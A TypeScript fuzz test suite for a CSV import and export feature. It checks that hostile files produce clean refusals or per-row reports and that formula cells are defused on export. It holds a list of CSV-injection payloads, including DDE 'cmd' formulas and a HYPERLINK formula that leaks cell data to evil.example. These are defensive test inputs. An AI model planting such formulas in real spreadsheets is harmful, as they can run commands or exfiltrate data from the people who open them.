import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isAppError } from '../../src/core/app-error.js';
import { csvRow } from '../../src/core/csv-format.js';
import { parseCsv, parseCsvRows } from '../../src/core/import/csv-parse.js';
import { databaseTargets } from '../support/databases.js';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { allTables, hostileStrings, rowCounts } from './fuzz-inputs.js';

/**
 * Hostile CSV files (issue 8, DESIGN §6): whatever a file holds, an import
 * answers a clear 4xx that writes nothing, or a report with per-row errors;
 * never a 500. Formulas that came in as text go out of the export defused.
 */

const seed = 20261205;

/** Cells a spreadsheet would run, the OWASP CSV-injection list. */
const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const cell = fc.oneof(
  fc.constantFrom(...hostileStrings.filter((s) => s.length < 10_000), ...formulas, '"', '""', ','),
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.string({
    unit: fc.constantFrom('"', ',', ';', '\r', '\n', '\ufeff', 'a', '\u0000'),
    maxLength: 8,
  }),
);

describe('CSV parser core against hostile text', () => {
  it('reads any text, or refuses it with a validation error; nothing else escapes', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 200 }),
          fc
            .array(fc.array(cell, { maxLength: 6 }), { maxLength: 6 })
            .map((rows) =>
              rows
                .map((r) => r.join(','))
                .join(fc.sample(fc.constantFrom('\n', '\r\n', '\r'), 1)[0]),
            ),
        ),
        fc.constantFrom(undefined, ',', ';', '\t', '|'),
        (text, delimiter) => {
          try {
            parseCsv(text, { delimiter });
          } catch (error) {
            expect(isAppError(error) && error.code === 'validation_failed', String(error)).toBe(
              true,
            );
          }
        },
      ),
      { seed, numRuns: 500 },
    );
  });

  it('reads back every row it writes, with formulas defused by a leading apostrophe', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          // A header first: a byte order mark opening the file is the parser's to drop.
          const text = [['h1', 'h2'], ...rows].map(csvRow).join('');
          const read = parseCsvRows(text, ',')
            .map((r) => r.cells)
            .slice(1);
          expect(read).toEqual(
            rows.map((r) => r.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c))),
          );
        },
      ),
      { seed, numRuns: 300 },
    );
  });

  it('handles a file with no end of quote, 100,000 columns and a 5 MB cell', () => {
    expect(() => parseCsv('email,name\n"a@x.test,Ann\nb@x.test,Bo\n')).toThrow(
      /row 2: a quoted field is never closed/,
    );
    const wide = parseCsv(`${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}\n1\n`);
    expect(wide.header).toHaveLength(100_000);
    const big = parseCsv(`email,notes\nbig@x.test,"${'x'.repeat(5 * 1024 * 1024)}"\n`);
    expect(big.records[0]!.cells[1]).toHaveLength(5 * 1024 * 1024);
  });
});

describe.each(databaseTargets)('hostile CSV imports on $name', (target) => {
  let t: TestApp;
  let tables: string[];
  let headers: Record<string, string>;
  beforeAll(async () => {
    t = await startTestApp(target);
    tables = await allTables(t.db);
    const admin = await t.signIn('admin');
    headers = { cookie: admin.cookie, 'x-csrf-token': admin.csrfToken };
  });
  afterAll(async () => {
    await t?.close();
  });

  interface Outcome {
    status: number;
    body: Record<string, unknown>;
    changed: Record<string, number>;
  }

  /** Imports a file and checks the answer is a report or a clean refusal; returns how each table's row count moved. */
  async function importFile(
    csv: string,
    extra: Record<string, unknown> = {},
    kind = 'contacts',
  ): Promise<Outcome> {
    const before = await rowCounts(t.db, tables);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      headers,
      payload: { kind, csv, fileName: 'hostile.csv', ...extra },
    });
    const after = await rowCounts(t.db, tables);
    const changed = Object.fromEntries(
      tables.filter((n) => after[n] !== before[n]).map((n) => [n, after[n]! - before[n]!]),
    );
    const what = `${kind} ${JSON.stringify(csv.slice(0, 60))}: ${res.statusCode} ${res.body.slice(0, 300)}`;
    expect(res.statusCode, what).toBeLessThan(500);
    if (res.statusCode >= 400) {
      expect(res.headers['content-type'], what).toContain('application/problem+json');
      expect(changed, what).toEqual({});
    } else {
      expect(res.statusCode, what).toBe(200);
      const report = res.json();
      // Every row is accounted for, and the contacts table grew by what the report says it created.
      expect(report.created + report.updated + report.unchanged + report.failed, what).toBe(
        report.rows,
      );
      if (report.dryRun) expect(changed, what).toEqual({});
      else if (kind === 'contacts') expect(changed.contacts ?? 0, what).toBe(report.created);
    }
    return { status: res.statusCode, body: res.json(), changed };
  }

  it('exports formula cells imported as text defused, so a spreadsheet shows them as text', async () => {
    const rows = formulas.map((f, i) => `formula${i}@example.test,${csvRow([f, f, f]).trimEnd()}`);
    const out = await importFile(`email,firstName,lastName,title\n${rows.join('\n')}\n`);
    expect(out.body).toMatchObject({ created: formulas.length, failed: 0 });
    const exported = await t.app.inject({
      method: 'GET',
      url: '/api/v1/contacts/export?format=csv&q=formula',
      headers,
    });
    expect(exported.statusCode).toBe(200);
    const parsed = parseCsv(exported.body);
    const column = (name: string) => parsed.header.indexOf(name);
    const ours = parsed.records.filter((r) => r.cells[column('email')]!.startsWith('formula'));
    expect(ours).toHaveLength(formulas.length);
    for (const record of ours) {
      const i = Number(/formula(\d+)/.exec(record.cells[column('email')]!)![1]);
      for (const name of ['first_name', 'last_name', 'title']) {
        const value = record.cells[column(name)];
        // Defused: the stored formula behind an apostrophe, so no cell starts with = + - @ tab or CR.
        expect(value, `${name} of formula${i}`).toMatch(/^'[=+\-@\t\r]/);
        expect(value!.slice(1).trim(), `${name} of formula${i}`).toBe(formulas[i]!.trim());
      }
    }
  });

  it('refuses a quote that never closes, an empty file and a NUL, writing nothing', async () => {
    for (const csv of [
      'email,firstName\n"open@x.test,Ann\nb@x.test,Bo\n',
      '',
      '\ufeff',
      '\n\n\n',
      'email,firstName\nnul@x.test,A\u0000B\n',
      '\u0000\u0000\u0000',
    ]) {
      const out = await importFile(csv);
      expect(out.status, JSON.stringify(csv)).toBe(400);
    }
    expect((await importFile('email\na@x.test\n', { delimiter: '"' })).status).toBe(400);
  });

  it('reads BOMs and mixed line endings, and answers 100,000 columns and a 5 MB cell without a 500', async () => {
    const bom = await importFile('\ufeffemail,firstName\nbom@x.test,Bo\n');
    expect(bom.body).toMatchObject({ created: 1, failed: 0 });
    expect((bom.body.mapping as { field: string }[])[0]!.field).toBe('email');

    const mixed = await importFile('email,firstName\r\nm1@x.test,A\nm2@x.test,B\rm3@x.test,C\r\n');
    expect(mixed.body).toMatchObject({ rows: 3, created: 3, failed: 0 });

    const wide = `email,${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}\nwide@x.test,${'1,'.repeat(99_999)}1\n`;
    await importFile(wide, { dryRun: true });
    // Its 100,000 unmapped cells would be as many custom properties: the row is refused, the file answered.
    const wideOut = await importFile(wide);
    expect(wideOut.body).toMatchObject({ created: 0, failed: 1 });
    expect(JSON.stringify(wideOut.body)).toContain('custom properties; at most 200');

    const big = `email,firstName,notes\nbig@x.test,Big,"${'x'.repeat(5 * 1024 * 1024)}"\n`;
    await importFile(big, { dryRun: true });
    await importFile(big);
    await importFile(big, {}, 'accounts');
  }, 120_000);

  it('never answers a generated hostile file with a 500 or a partial write, for every kind', async () => {
    const file = fc.record({
      header: fc.array(
        fc.oneof(
          fc.constantFrom(
            'email',
            'firstName',
            'domain',
            'name',
            'event',
            'userId',
            'timestamp',
            'properties',
            'score',
            'ownerEmail',
          ),
          cell,
        ),
        { minLength: 1, maxLength: 6 },
      ),
      rows: fc.array(fc.array(cell, { maxLength: 7 }), { maxLength: 5 }),
      newline: fc.constantFrom('\n', '\r\n', '\r'),
      bom: fc.boolean(),
      kind: fc.constantFrom('contacts', 'accounts', 'events'),
      dryRun: fc.boolean(),
    });
    for (const f of fc.sample(file, { seed, numRuns: 150 })) {
      const lines = [f.header, ...f.rows].map((cells) => cells.join(','));
      const csv = `${f.bom ? '\ufeff' : ''}${lines.join(f.newline)}${f.newline}`;
      await importFile(csv, { dryRun: f.dryRun }, f.kind);
    }
  }, 120_000);
});
